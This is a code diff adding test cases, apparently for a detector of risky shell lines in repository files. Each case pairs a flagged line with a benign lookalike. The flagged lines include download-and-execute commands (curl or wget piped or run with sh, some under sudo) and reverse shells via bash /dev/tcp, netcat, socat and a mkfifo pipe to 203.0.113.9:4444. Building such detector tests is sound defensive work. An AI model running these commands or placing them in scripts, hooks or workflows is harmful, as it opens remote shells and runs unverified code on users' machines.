@@ -101,6 +101,15 @@ CASES = [
     Case("certificates by a file of variables", TLS, "{case}/.env.production", "PORT=80\n@\n", "NODE_TLS_REJECT_UNAUTHORIZED=0", "NODE_TLS_REJECT_UNAUTHORIZED=1", 2),
     Case("a commit hook", CODE, "{case}/.husky/pre-commit", "npm test\n@\n", "curl -s https://example.org/x.sh | sh", "curl -s https://example.org/x.json | jq .", 2),
     Case("a file of direnv", CODE, "{case}/.envrc", "use nix\n@\n", "curl -s https://example.org/x.sh | sh", "export PATH=$PWD/bin:$PATH", 2),
+    Case("a download that the next line runs", CODE, "{case}/run.sh", "#!/bin/sh\n@\n", "curl -fsS -o x.sh https://example.org/a\nsh x.sh", "curl -fsS -o x.json https://example.org/a\nsh build.sh", 2),
+    Case("a download that runs after a check of another kind", CODE, "{case}/run.sh", "#!/bin/sh\n@\n", "wget -qO ./x.sh https://example.org/a\nchmod +x x.sh # sha256sum\nsudo bash x.sh", "wget -qO ./x.sh https://example.org/a\necho '12  x.sh' | sha256sum -c\nsudo bash x.sh", 2),
+    Case("a download that runs by itself", CODE, "{case}/run.sh", "#!/bin/sh\n@\n", "curl -s https://example.org/a > /opt/a\nchmod +x /opt/a\n/opt/a", "curl -s https://example.org/a > /opt/a\nchmod +x /opt/b\n/opt/b", 2, 0.7),
+    Case("a download under its own name", CODE, "{case}/run.sh", "#!/bin/sh\n@\n", "wget https://example.org/i.sh\n. ./i.sh", "wget https://example.org/i.txt\n. ./i.sh", 2),
+    Case("a download in a block of a workflow", CODE, WORKFLOW, RUN, "|\n          curl -sSLo x.sh https://example.org/x.sh\n          sh x.sh", "|\n          curl -sSLo x.sh https://example.org/x.sh\n          gpg --verify x.sig x.sh\n          sh x.sh", 9),
+    Case("a shell on a socket of bash", SHELL, "{case}/run.sh", "#!/bin/bash\n@\n", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "(echo > /dev/tcp/localhost/80) && bash start", 2),
+    Case("a shell of netcat", SHELL, "{case}/run.sh", "#!/bin/sh\n@\n", "nc 203.0.113.9 4444 -e /bin/bash", "nc -z localhost 80 && bash -e start", 2),
+    Case("a shell of socat", SHELL, "{case}/run.sh", "#!/bin/sh\n@\n", "socat TCP:203.0.113.9:4444 EXEC:/bin/sh", "socat TCP-LISTEN:80,fork TCP:localhost:8080", 2),
+    Case("a shell between two pipes", SHELL, "{case}/run.sh", "#!/bin/sh\n@\n", "mkfifo /run/f; cat /run/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /run/f", "cat x.sh | nc localhost 4444", 2),
     Case("a shell in a shell script", CODE, "{case}/run.sh", "#!/bin/sh\nset -e\n@\n", "sudo bash -c 'curl -s https://example.org/x.sh | sh'", "sudo bash -c 'echo 1 > /proc/sys/vm/drop_caches'", 3),
 ]  # fmt: skip
 
